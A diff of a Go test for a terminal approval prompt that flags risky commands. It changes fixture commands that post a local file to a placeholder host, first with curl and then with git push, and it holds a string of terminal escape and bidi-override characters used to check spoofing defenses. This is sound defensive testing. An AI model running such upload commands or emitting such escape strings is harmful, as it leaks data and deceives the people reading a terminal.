@@ -37,7 +37,7 @@ func TestPromptOnATerminal(t *testing.T) {
 		t.Fatal(r.err)
 	}
 	// The command says that it ran with a word that stands nowhere in it.
-	script := []string{"sh", "-c", `curl -s -m 1 -d @x https://example.invalid/in; echo ran-$((40+2)); read x; echo got-$x`}
+	script := []string{"sh", "-c", `git push -q https://example.invalid/in x; echo ran-$((40+2)); read x; echo got-$x`}
 	ask := func(t *testing.T, argv ...string) *ptytest.Terminal {
 		t.Helper()
 		return ptytest.Start(t, h.command(context.Background(), alice, append([]string{"exec", "-i", key, "--"}, argv...)...), 50, 120, false)
@@ -84,7 +84,7 @@ func TestPromptOnATerminal(t *testing.T) {
 		for _, want := range []string{
 			id + "  pending  risk ", "where       " + key, "as          crt-", "a person typed it",
 			"boundary=namespace root=system; all that is required of it was verified",
-			"may         ", "network.out", "because     ", "CONFIRM  risk ", "curl -s -m 1 -d @x https://example.invalid/in", "SAFE  risk ",
+			"may         ", "network.out", "because     ", "CONFIRM  risk ", "git push -q https://example.invalid/in x", "SAFE  risk ",
 			"echo ran-$((40+2))", "Expires at ",
 		} {
 			if !strings.Contains(x.Screen(), want) {
@@ -169,7 +169,7 @@ func TestPromptOnATerminal(t *testing.T) {
 	t.Run("what a terminal would obey", func(t *testing.T) {
 		// What it would take for a line of its own is blocked, and the refusal quotes it.
 		hostile := "\x1b]0;title\x07\x1b[2J\x1b[1A\u009b2J\u202egnp\u2066\rcarrel: harmless\x08\x08\x7f"
-		x := ask(t, "curl", "-d", hostile, "https://example.invalid/"+hostile, "A="+hostile)
+		x := ask(t, "git", "push", "https://example.invalid/"+hostile, hostile, "A="+hostile)
 		if code := x.Wait(); code != 125 {
 			t.Errorf("exit code %d", code)
 		}
@@ -178,7 +178,7 @@ func TestPromptOnATerminal(t *testing.T) {
 		harmless(t, x)
 		// What is asked about.
 		x = ptytest.Start(t, h.command(context.Background(), alice, "exec", "-e", "B=\x1b[2J", "--cwd", "/tmp/\u202egnp\x1b[2J", key,
-			"--", "curl", "-d", "@x", "https://example.invalid/in"), 50, 120, false)
+			"--", "git", "push", "https://example.invalid/in", "x"), 50, 120, false)
 		x.Expect(question)
 		id := approvalID.FindString(x.Screen())
 		x.Type("\x03")
